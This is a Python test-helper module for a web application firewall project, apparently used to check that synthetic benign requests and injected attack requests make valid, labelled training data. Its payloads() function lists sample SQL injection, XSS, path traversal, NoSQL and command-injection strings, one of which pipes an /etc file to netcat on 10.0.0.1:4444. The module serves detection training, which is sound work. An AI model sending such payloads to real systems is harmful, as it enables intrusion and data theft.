"""Checks shared by the per-module template tests (test_synth_templates_*.py).

Each template module is tested the same way: routes of its own, seeded rendering, valid benign
requests, and a payload placed in any slot landing in the request exactly once. What differs between
modules (their templates, seeds, body formats, which slot kinds carry the payload as is) is passed in.
"""

from __future__ import annotations

import copy
import csv
import functools
import io
import json
import urllib.parse
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from email.parser import BytesParser
from email.policy import HTTP
from typing import Any
from xml.etree.ElementTree import Element, fromstring

from tests.training.test_synth import _strings, problems
from waf_proxy.training import synth
from waf_proxy.training.synth_templates import REGISTRY, Template, templates_for
from waf_proxy.training.synth_values import SENTINEL, encode_for_slot

Record = dict[str, Any]
Parser = Callable[[Record], Any]

BODILESS = ("GET", "HEAD", "OPTIONS")
EVERY_SLOT_KIND = frozenset({"json", "json_query", "query", "form", "multipart", "path", "header", "cookie", "xml"})


def payloads(mark: str) -> list[tuple[str, str]]:
    """One payload per category, each carrying a marker no benign value contains, so it can be found after encoding."""
    return [
        (f"' OR '{mark}'='{mark}' -- ", "sqli"),
        (f"<script>alert('{mark}')</script>", "xss"),
        (f"../../../{mark}/etc/passwd", "path-traversal"),
        (f"; cat /etc/{mark} | nc 10.0.0.1 4444 #", "rce"),
        ('{"$where": "' + mark + '"}', "nosql-injection"),
    ]


def _on(path: str, routes: tuple[str, ...]) -> bool:
    """A path is on a route: the site root "/" exactly, any other route as a prefix."""
    return any(path == r if r == "/" else path.startswith(r) for r in routes)


def _overlap(a: str, b: str) -> bool:
    """Two routes clash when one is a prefix of the other (the root "/" only matches itself)."""
    if "/" in (a, b):
        return a == b
    return a.startswith(b) or b.startswith(a)


def _ctype(record: Record) -> str:
    """The Content-Type header, whatever its case; "" when there is none."""
    return next((v for k, v in record["headers"] if k.lower() == "content-type"), "")


def parse_form(body: str) -> list[tuple[str, str]]:
    """A urlencoded body as the app reads it; strict, so a malformed body raises."""
    return urllib.parse.parse_qsl(body, keep_blank_values=True, strict_parsing=True)


def parse_multipart(record: Record) -> dict[str, Any]:
    """The named parts of a multipart body, as a mail/HTTP parser reads them; asserts it is well-formed."""
    raw = f"Content-Type: {_ctype(record)}\r\n\r\n".encode() + record["body"].encode("utf-8")
    msg = BytesParser(policy=HTTP).parsebytes(raw)
    assert msg.is_multipart() and not msg.defects
    parts = {p.get_param("name", header="content-disposition"): p.get_content() for p in msg.iter_parts()}
    assert parts and all(name for name in parts)
    return parts


def parse_csv(body: str, min_rows: int = 1) -> list[list[str]]:
    """CSV rows; asserts at least min_rows rows, all of the same width, as an importer would expect."""
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) >= min_rows and all(len(row) == len(rows[0]) for row in rows), rows
    return rows


def parse_body(record: Record, raw_text: Sequence[str], csv_rows: int = 2) -> Any:
    """A body parsed by its content type, as the receiving app would (raises if malformed);
    `raw_text` lists the domain text types the module's apps read as they are, `csv_rows` the
    fewest rows a CSV upload carries."""
    ctype, body = _ctype(record).lower(), record["body"]
    if not ctype:
        assert body == "", record["path"]
        return body
    if "json" in ctype:
        return json.loads(body)
    if "urlencoded" in ctype:
        return parse_form(body)
    if "multipart" in ctype:
        return parse_multipart(record)
    if "xml" in ctype:
        return fromstring(body.encode("utf-8"))
    if ctype.startswith("text/csv"):
        return parse_csv(body, min_rows=csv_rows)
    assert ctype.split(";")[0] in raw_text, ctype
    return body


def user_texts(record: Record, parse: Parser, parts_as_sent: bool = False) -> list[str]:
    """The decoded user text of a record: path, query values and body values (JSON strings, form
    values, multipart parts, CSV cells, XML text and attributes, raw text). `parts_as_sent` reads
    multipart parts from the wire (the mail parser guesses the charset of a text part)."""
    out = [v for _, v in urllib.parse.parse_qsl(record["query"], keep_blank_values=True)]
    out.append(urllib.parse.unquote(record["path"]))
    if not record["body"]:
        return out
    parsed = parse(record)
    ctype = _ctype(record)
    if "json" in ctype:
        out += _strings(parsed)
    elif "urlencoded" in ctype:
        out += [v for _, v in parsed]
    elif "multipart" in ctype:
        out += [record["body"]] if parts_as_sent else [x.decode("utf-8") if isinstance(x, bytes) else str(x) for x in parsed.values()]
    elif isinstance(parsed, list):  # CSV rows
        out += [cell for row in parsed for cell in row]
    elif isinstance(parsed, Element):
        out += [el.text or "" for el in parsed.iter()] + [a for el in parsed.iter() for a in el.attrib.values()]
    else:
        out.append(parsed)
    return out


def render_all(tpl: Template, key: str, seeds: Iterable[int]) -> list[Record]:
    """The benign request a template renders per seed; key is formatted with the template's name and the seed."""
    return [synth.render(tpl, key.format(name=tpl.name, seed=s))[0] for s in seeds]


def finish_all(mine: Sequence[Template], key: str, seeds: Iterable[int], id_prefix: str) -> list[Record]:
    """Every template's benign renders as finished records, sourced "synth:<template>" so checks can find the template."""
    seeds = list(seeds)
    return [
        synth._finish(request, f"{id_prefix}-{tpl.name}-{i}", "benign", "normal", f"synth:{tpl.name}")
        for tpl in mine
        for i, request in enumerate(render_all(tpl, key, seeds))
    ]


def slot_kinds(mine: Sequence[Template], key: str, seeds: Iterable[int]) -> Counter[str]:
    """How often each slot kind is offered across the templates and seeds, to see a module exercises every kind."""
    seeds = list(seeds)
    return Counter(s.kind for tpl in mine for seed in seeds for s in synth.render(tpl, key.format(name=tpl.name, seed=seed))[1].slots)


def check_registered(names: Sequence[str], module: Any, group: str) -> None:
    """A module's templates are exactly the ones it defines, without duplicates, all in its group with a weight."""
    assert len(set(names)) == len(names), names
    defined_here = {t.name for t in REGISTRY.values() if t.build.__module__ == module.__name__}
    assert defined_here == set(names)
    assert set(names) <= {t.name for t in templates_for(group)}
    assert all(REGISTRY[name].group == group and REGISTRY[name].weight > 0 for name in names)


def check_routes_disjoint(mine: Sequence[Template]) -> None:
    """No route of a template is a prefix of (or prefixed by) another template's, so the traffic groups never mix."""
    for tpl in mine:
        for other in REGISTRY.values():
            if other.name == tpl.name:
                continue
            for a in tpl.routes:
                for b in other.routes:
                    assert not _overlap(a, b), (tpl.name, a, other.name, b)


def check_app_routes(mine: Sequence[Template]) -> None:
    """Each template owns one app-specific prefix (`/crm/`), never a generic API root, and no other template's routes."""
    for tpl in mine:
        for route in tpl.routes:
            assert route.startswith("/") and route.endswith("/") and route.count("/") == 2, route
            assert not route.startswith(("/api/", "/v1/", "/v2/")), route
    check_routes_disjoint(mine)


def check_bodies(records: Sequence[Record], bodiless: Sequence[str], small_share: float,
                 also_bodiless: Callable[[Record], bool] = lambda record: False) -> None:
    """Bodiless requests carry neither body nor Content-Type, the others both; none is over 12,000
    bytes and more than small_share of them under 2 KB, as real traffic mostly is."""
    for record in records:
        if record["method"] in bodiless or also_bodiless(record):
            assert not _ctype(record) and not record["body"], (record["id"], record["method"])
        else:
            assert record["body"] and _ctype(record), record["id"]
        assert len(record["body"]) < 12000, record["id"]
    assert sum(len(r["body"]) < 2048 for r in records) / len(records) > small_share


def check_deterministic(mine: Sequence[Template], render: Callable[[Template], list[Record]], min_distinct: float) -> None:
    """Rendering twice gives the same requests, and at least min_distinct of the seeds give distinct ones."""
    for tpl in mine:
        first = render(tpl)
        assert first == render(tpl), tpl.name
        distinct = {json.dumps(r, sort_keys=True) for r in first}
        assert len(distinct) >= len(first) * min_distinct, tpl.name


def check_benign(records: Sequence[Record], names: Sequence[str], parse: Parser, bodiless: Sequence[str] = BODILESS) -> None:
    """Benign records are valid, on their own template's routes only, free of the sentinel, bodiless where the method has none, and parse."""
    other_routes = tuple(r for t in REGISTRY.values() if t.name not in names for r in t.routes)
    for record in records:
        tpl = REGISTRY[record["source"].split(":")[1]]
        assert problems(record) == [], (tpl.name, record["id"], problems(record))
        assert _on(record["path"], tpl.routes) and not _on(record["path"], other_routes), (tpl.name, record["path"])
        assert SENTINEL not in json.dumps(record)
        if record["method"] in bodiless:
            assert record["body"] == "", (tpl.name, record["method"])
        parse(record)


def _xml_text(root: Element, attributes: bool) -> list[str]:
    """Element texts (no tails: a payload belongs inside an element) and, where asked, attribute values."""
    return [el.text or "" for el in root.iter()] + ([v for el in root.iter() for v in el.attrib.values()] if attributes else [])


def decoded(record: Record, field: str, kind: str, parse: Parser, xml_attributes: bool = True) -> str:
    """The field holding a payload, decoded the way the receiving app would."""
    if field.startswith("header:"):
        return urllib.parse.unquote(dict(record["headers"])[field[7:]])
    if field == "path":
        return urllib.parse.unquote(record["path"])
    if field == "query":
        values = [v for _, v in urllib.parse.parse_qsl(record["query"], keep_blank_values=True)]
        if kind == "json_query":
            return "\n".join(s for v in values if v.startswith("{") for s in _strings(json.loads(v)))
        return "\n".join(values)
    if kind == "json":  # JSON bodies, also those sent as text/plain (sendBeacon)
        body = parse(record)
        return "\n".join(_strings(json.loads(body) if isinstance(body, str) else body))
    if kind == "form":
        return "\n".join(v for _, v in parse(record))
    if kind == "xml":
        return "\n".join(_xml_text(parse(record), xml_attributes))
    return record["body"]  # multipart parts, CSV cells and raw text bodies (gettext, iCalendar) carry the payload as is


def _replace_by_hand(attack: Record, field: str, encoded: str) -> Record:
    """The attack with the sentinel in field replaced, done here so synth._replace_sentinel can be checked against it."""
    out = copy.deepcopy(attack)
    if field.startswith("header:"):
        out["headers"] = [[k, v.replace(SENTINEL, encoded)] for k, v in out["headers"]]
    else:
        out[field] = out[field].replace(SENTINEL, encoded)
    return out


def check_slot_injection(
    tpl: Template, seeds: int, parse: Parser, payload_list: Sequence[tuple[str, str]], mark: str, xml_attributes: bool = True
) -> list[tuple[Record, Any]]:
    """A payload put in any slot lands in exactly one field once, changes nothing else and decodes back; returns the benign renders."""
    renders = []
    for seed in range(seeds):
        benign, ctx = synth.render(tpl, f"slot:{seed}")
        assert ctx.slots, tpl.name
        renders.append((benign, ctx))
        for at, slot in enumerate(ctx.slots):
            payload = payload_list[(seed + at) % len(payload_list)][0]
            attack, actx = synth.render(tpl, f"slot:{seed}", inject_at=at)
            encoded = encode_for_slot(actx, slot.kind, payload)
            fields = {k: attack[k] for k in ("path", "query", "body")} | {f"header:{k}": v for k, v in attack["headers"]}
            holding = [k for k, value in fields.items() if SENTINEL in value]
            assert len(holding) == 1 and fields[holding[0]].count(SENTINEL) == 1, (tpl.name, slot)
            by_hand = _replace_by_hand(attack, holding[0], encoded)
            field = synth._replace_sentinel(attack, encoded)
            assert field == holding[0], (tpl.name, slot, field)
            assert {**attack, "headers": [list(h) for h in attack["headers"]]} == by_hand, (tpl.name, slot)
            for key in ("method", "path", "query", "body"):
                if key != field:
                    assert attack[key] == benign[key], (tpl.name, slot, key)
            assert [k for k, _ in attack["headers"]] == [k for k, _ in benign["headers"]]
            record = synth._finish(attack, "a", "attack", "sqli", "s")
            assert problems(record) == [], (tpl.name, slot, problems(record))
            assert all(record[k] == attack[k] for k in ("method", "path", "query", "body")), (tpl.name, slot)
            wanted = payload if slot.kind not in ("cookie", "header") else mark
            assert wanted in decoded(record, field, slot.kind, parse, xml_attributes), (tpl.name, slot)
    return renders


def check_user_text_outside_headers(renders: Sequence[tuple[Record, Any]]) -> None:
    """Most slots of a template's renders sit in the body and the URL, where user text goes, not in headers or cookies."""
    kinds = Counter(slot.kind for _, ctx in renders for slot in ctx.slots)
    in_headers = sum(n for k, n in kinds.items() if k in ("header", "cookie"))
    assert sum(kinds.values()) - in_headers > in_headers, kinds


@functools.lru_cache(maxsize=4)
def _train_pool_pairs(n: int, attack_payloads: tuple[tuple[str, str], ...]) -> list[tuple[Record, Record, dict[str, Any]]]:
    """Attack pairs drawn from the whole train pool, generated once for every module test that asks."""
    return synth.generate_attack_pairs(n, list(attack_payloads), seed=31, templates="train", evasion_rate=0)


def check_module_attacks(names: Sequence[str], parse: Parser, attack_payloads: Sequence[tuple[str, str]], n: int, min_templates: int) -> None:
    """Attacks generated from the whole train pool reach at least min_templates of a module's templates, all valid.
    At least three attacks per train template are drawn, so that a module's share holds as modules are added."""
    n = max(n, 3 * len(templates_for("train")))
    pairs = _train_pool_pairs(n, tuple(map(tuple, attack_payloads)))
    mine = copy.deepcopy([(b, a, i) for b, a, i in pairs if i["template"] in names])  # the shared draw stays as drawn
    assert len({i["template"] for _, _, i in mine}) >= min_templates
    check_attack_pairs(mine, parse)


def check_attack(attack: Record, slot: str, parse: Parser, mark: str | None = None) -> None:
    """A generated attack is a valid record, its marker (where given) is in it, and a JSON-slot payload keeps the body valid."""
    assert attack["label"] == "attack" and problems(attack) == [], (attack["id"], problems(attack))
    if mark is not None:
        text = urllib.parse.unquote_plus(attack["path"] + "?" + attack["query"]) + attack["body"] + json.dumps(attack["headers"])
        assert mark in text.replace("\\u", "").replace("\\", ""), attack["id"]
    if slot == "json":
        parse(attack)  # a payload in a JSON field keeps the body valid JSON


def check_attack_pairs(pairs: Iterable[tuple[Record, Record, dict[str, Any]]], parse: Parser, mark: str | None = None) -> None:
    """Every generated (benign, attack) pair is valid on both sides; see check_attack."""
    for benign, attack, info in pairs:
        assert benign["label"] == "benign" and problems(benign) == [], (info, problems(benign))
        check_attack(attack, info["slot"], parse, mark)
